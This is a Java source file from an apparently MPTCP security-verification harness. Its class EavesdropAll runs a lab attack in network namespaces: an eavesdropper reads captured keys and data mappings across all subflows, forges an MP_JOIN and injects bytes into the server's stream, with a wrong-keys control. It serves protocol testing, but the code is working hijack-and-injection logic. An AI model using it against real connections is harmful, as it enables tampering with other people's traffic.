package org.mptcpverify.kernel;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.mptcpverify.crypto.MptcpCrypto;
import org.mptcpverify.vocab.AttackId;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * eavesdrop-all: the attacker reads the whole connection on every path until it acts, not just the
 * handshake. The legitimate client also joins from its second address (10.1.0.11, endpoint id 5)
 * and sends a bulk transfer the kernel's scheduler spreads over both subflows; both paths cross the
 * hub, so the attacker sees both. It finds the connection's subflows in the capture (the join's SYN
 * carries the token of the captured server key), checks the legitimate join's HMACs against the
 * captured keys, and takes the next data sequence number from the highest data mapping the client
 * sent on any of them: the bytes of one subflow alone would put its bytes in the wrong place.
 * Then it joins from its own address and injects, as eavesdrop-handshake. Success: the server
 * application reads the client's whole stream followed by the attacker's bytes, and the server
 * holds two joins (the client's and the attacker's). Control: wrong keys, the join is reset.
 */
public final class EavesdropAll implements KernelAttack {
    static final int ADDRESS_ID = 9;
    /** The legitimate bulk transfer after the join: a few segments' worth. */
    static final int BULK_BYTES = 6_000;
    /** The client's endpoint id for its initial address, made only to mark that address backup. */
    static final int INITIAL_ENDPOINT_ID = 1;

    @Override
    public Profile profile() {
        return Profile.of(AttackId.EAVESDROP_ALL, WRONG_KEYS);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        Topology topo = ctx.topology();
        InetAddress alt = RemoveAddrForge.CLIENT_ALT;
        PathManager.addEndpoint(topo.client(), alt, RemoveAddrForge.ENDPOINT_ID, "subflow");
        int joins = PathManager.awaitSubflows(ctx.server(), 1, 3_000);
        ctx.note("client: second address " + alt.getHostAddress() + " (endpoint id " + RemoveAddrForge.ENDPOINT_ID
                + ", subflow) joined; server MPTCP_INFO subflows = " + joins);
        if (joins != 1) {
            ctx.note("the client's own join was not established; the scenario needs it");
            return false;
        }
        // The client's own path manager makes its initial address backup (MP_PRIO to the server), so
        // the scheduler sends the bulk over the join: the data-level view then spans both subflows.
        Commands.run("ip", "-n", topo.client(), "mptcp", "endpoint", "add", Topology.CLIENT.getHostAddress(), "dev",
                Topology.IFACE, "id", Integer.toString(INITIAL_ENDPOINT_ID));
        Commands.run("ip", "-n", topo.client(), "mptcp", "endpoint", "change", "id", Integer.toString(INITIAL_ENDPOINT_ID),
                "backup");
        ctx.note("client: endpoint " + Topology.CLIENT.getHostAddress() + " (the initial subflow's address) set to backup");
        byte[] bulk = bulk();
        int before = ctx.server().received().length;
        ctx.client().send(bulk);
        byte[] legit = EavesdropHandshake.concat(ctx.clientData(), bulk);
        if (ctx.server().await(e -> ctx.server().received().length >= before + bulk.length, 10_000).isEmpty()) {
            ctx.note("server application did not receive the client's " + bulk.length + " bytes within 10 s");
            return false;
        }
        ctx.note("legitimate bulk transfer: client sent " + bulk.length + " more bytes, the server application read them");

        CapturedConnection c = ctx.fresh();
        if (c.checksumRequired()) {
            ctx.note("connection negotiated DSS checksums; this attacker does not compute them");
            return false;
        }
        Optional<Long> next = awaitDataEnd(ctx, c, legit.length);
        if (next.isEmpty()) {
            return false;
        }
        Optional<ForgedJoin.Joined> joined = ForgedJoin.toServer(ctx, c, ADDRESS_ID);
        if (joined.isEmpty()) {
            return false;
        }
        int appMark = ctx.server().eventCount();
        int want = legit.length + EavesdropHandshake.INJECTED.length;
        EavesdropHandshake.inject(ctx, c, joined.get(), next.get());
        ctx.server().awaitFrom(appMark, e -> ctx.server().received().length >= want, 2_000);
        byte[] stream = ctx.server().received();
        byte[] tail = Arrays.copyOfRange(stream, Math.min(legit.length, stream.length), stream.length);
        boolean prefix = stream.length >= legit.length && Arrays.equals(Arrays.copyOf(stream, legit.length), legit);
        ctx.note("server application read " + stream.length + " bytes: the client's " + legit.length + " bytes "
                + (prefix ? "unchanged" : "NOT as sent") + ", then " + EavesdropHandshake.printable(tail));
        ctx.server().command("info");
        Optional<JsonNode> info = ctx.server().awaitFrom(appMark, e -> "info".equals(e.path("event").asText()), 2_000);
        int subflows = info.map(i -> i.path("info").path("subflows").asInt(-1)).orElse(-1);
        ctx.note("server MPTCP_INFO: additional subflows = " + subflows);
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);
        boolean injected = prefix && Arrays.equals(tail, EavesdropHandshake.INJECTED);
        return injected && subflows >= 2 && delta.getOrDefault("MPTcpExtMPJoinAckRx", 0L) >= 2;
    }

    /** A printable, position-revealing pattern, so a misplaced byte would show in the evidence. */
    static byte[] bulk() {
        StringBuilder s = new StringBuilder();
        for (int line = 0; s.length() < BULK_BYTES; line++) {
            s.append(String.format("bulk line %05d from the client, over whichever subflow the kernel picks\n", line));
        }
        return s.substring(0, BULK_BYTES).getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * Waits until the capture shows the client's data mappings on the connection's subflows
     * covering {@code legitBytes} after the IDSN (the sender's side of the capture settles after the
     * server application has read the data; this bounds the wait, the value comes from the
     * mappings), then notes what the attacker derived. Empty, with a note, if it never does.
     */
    private static Optional<Long> awaitDataEnd(AttackContext ctx, CapturedConnection c, int legitBytes) {
        long deadline = System.nanoTime() + 3_000_000_000L;
        Observed seen = observe(ctx.tap().segments(), c);
        long expected = MptcpCrypto.idsn(c.hash(), c.clientKey()) + 1 + legitBytes;
        while (seen.dataEnd() != expected && System.nanoTime() < deadline) {
            PathManager.sleep(50);
            seen = observe(ctx.tap().segments(), c);
        }
        ctx.note("attacker: the connection's subflows in the capture (joins found by the token of the captured server key "
                + String.format("%08x", c.serverToken()) + "): " + String.join("; ", seen.subflows()));
        seen.joinHmacs().forEach(ctx::note);
        long initialOnly = c.clientNextDsn();
        long end = seen.dataEnd();
        ctx.note("attacker: data sequence number = highest end of the client's data mappings on all subflows = "
                + Long.toUnsignedString(end) + " (IDSN(client key) + 1 + " + (end - MptcpCrypto.idsn(c.hash(), c.clientKey()) - 1)
                + " bytes); the initial subflow's bytes alone would give " + Long.toUnsignedString(initialOnly)
                + (initialOnly == end ? " (the same: the capture shows no data mapped on a join)" : " (wrong: a join carried data)"));
        if (ctx.wrongKeys()) {
            // the control keeps everything it captured but the keys: the mappings are those the
            // right keys' IDSN numbers, so it reuses the last mapping end the capture shows
            return Optional.of(end);
        }
        if (end != expected) {
            ctx.note("attacker: the capture does not cover all the client's data within 3 s");
            return Optional.empty();
        }
        return Optional.of(end);
    }

    /** What the capture shows of the connection's subflows, the legitimate joins' HMACs and the data mappings. */
    record Observed(List<String> subflows, List<String> joinHmacs, long dataEnd) {}

    static Observed observe(List<Wiretap.Seen> seen, CapturedConnection c) {
        List<TcpSegment> ups = new ArrayList<>();
        List<String> subflows = new ArrayList<>();
        List<String> hmacs = new ArrayList<>();
        TcpSegment initial = null;
        for (Wiretap.Seen s : seen) {
            TcpSegment t = s.segment();
            if (t.has(TcpSegment.SYN) && !t.has(TcpSegment.ACK) && t.src().equals(c.client()) && t.srcPort() == c.clientPort()
                    && t.dst().equals(c.server()) && t.dstPort() == c.serverPort() && initial == null) {
                initial = t;
                ups.add(t);
            }
            Optional<MptcpOption.MpJoinSyn> js = CapturedConnection.option(t, MptcpOption.MpJoinSyn.class);
            if (js.isPresent() && t.has(TcpSegment.SYN) && !t.has(TcpSegment.ACK) && js.get().receiverToken() == c.serverToken()
                    && !t.src().equals(Topology.FORGED) && ups.stream().noneMatch(u -> CapturedConnection.sameWay(u, t))) {
                ups.add(t);
                hmacs.add(joinHmacs(seen, c, t, js.get()));
            }
        }
        long idsn = MptcpCrypto.idsn(c.hash(), c.clientKey());
        long end = idsn + 1;
        for (TcpSegment first : ups) {
            CapturedConnection.Direction d = CapturedConnection.direction(seen, first);
            subflows.add(first.src().getHostAddress() + ":" + first.srcPort() + " -> " + first.dst().getHostAddress() + ":"
                    + first.dstPort() + " (" + (first == initial ? "initial" : "join") + ", " + d.dataBytes()
                    + " payload bytes from the client)");
            for (Wiretap.Seen s : seen) {
                TcpSegment t = s.segment();
                if (!CapturedConnection.sameWay(first, t)) {
                    continue;
                }
                Optional<MptcpOption.Dss> dss = CapturedConnection.option(t, MptcpOption.Dss.class);
                if (dss.isPresent() && dss.get().dataSequence().isPresent()) {
                    long dsn = full(dss.get(), idsn);
                    end = maxUnsigned(end, dsn + dss.get().dataLevelLength().getAsInt());
                }
                // RFC 8684 3.1: the first data may ride in the MP_CAPABLE third ACK, mapped at IDSN + 1
                Optional<MptcpOption.MpCapable> mpc = CapturedConnection.option(t, MptcpOption.MpCapable.class);
                if (mpc.isPresent() && mpc.get().dataLevelLength().isPresent()) {
                    end = maxUnsigned(end, idsn + 1 + mpc.get().dataLevelLength().getAsInt());
                }
            }
        }
        return new Observed(subflows, hmacs, end);
    }

    private static long maxUnsigned(long a, long b) {
        return Long.compareUnsigned(a, b) >= 0 ? a : b;
    }

    /** A mapping's 64-bit data sequence number (a 32-bit one is placed nearest the IDSN). */
    private static long full(MptcpOption.Dss dss, long idsn) {
        long v = dss.dataSequence().getAsLong();
        if ((dss.flags() & MptcpOption.Dss.F_DSN8) != 0) {
            return v;
        }
        long guess = (idsn & ~0xffffffffL) | v;
        return guess < idsn - 0x8000_0000L ? guess + 0x1_0000_0000L : guess;
    }

    /** Recomputes the legitimate join's HMAC-B (SYN/ACK) and HMAC-A (third ACK) from the captured keys. */
    private static String joinHmacs(List<Wiretap.Seen> seen, CapturedConnection c, TcpSegment syn, MptcpOption.MpJoinSyn js) {
        Optional<MptcpOption.MpJoinSynAck> sa = seen.stream().map(Wiretap.Seen::segment)
                .filter(t -> CapturedConnection.reverse(syn, t) && t.has(TcpSegment.SYN))
                .flatMap(t -> CapturedConnection.option(t, MptcpOption.MpJoinSynAck.class).stream()).findFirst();
        Optional<MptcpOption.MpJoinAck> ack = seen.stream().map(Wiretap.Seen::segment)
                .filter(t -> CapturedConnection.sameWay(syn, t) && !t.has(TcpSegment.SYN))
                .flatMap(t -> CapturedConnection.option(t, MptcpOption.MpJoinAck.class).stream()).findFirst();
        if (sa.isEmpty() || ack.isEmpty()) {
            return "attacker: the client's join from " + syn.src().getHostAddress() + " (address id " + js.addressId()
                    + "): SYN/ACK or third ACK not captured";
        }
        boolean b = MptcpCrypto.constantTimeEquals(MptcpCrypto.joinSynAckHmac(c.hash(), c.serverKey(), c.clientKey(),
                sa.get().senderRandom(), js.senderRandom()), sa.get().truncatedHmac());
        boolean a = MptcpCrypto.constantTimeEquals(MptcpCrypto.joinAckHmac(c.hash(), c.clientKey(), c.serverKey(),
                js.senderRandom(), sa.get().senderRandom()), ack.get().hmac());
        return "attacker: the client's join from " + syn.src().getHostAddress() + " (address id " + js.addressId()
                + "): HMAC-B " + (b ? "verifies" : "does NOT verify") + " and HMAC-A " + (a ? "verifies" : "does NOT verify")
                + " under the captured keys";
    }
}
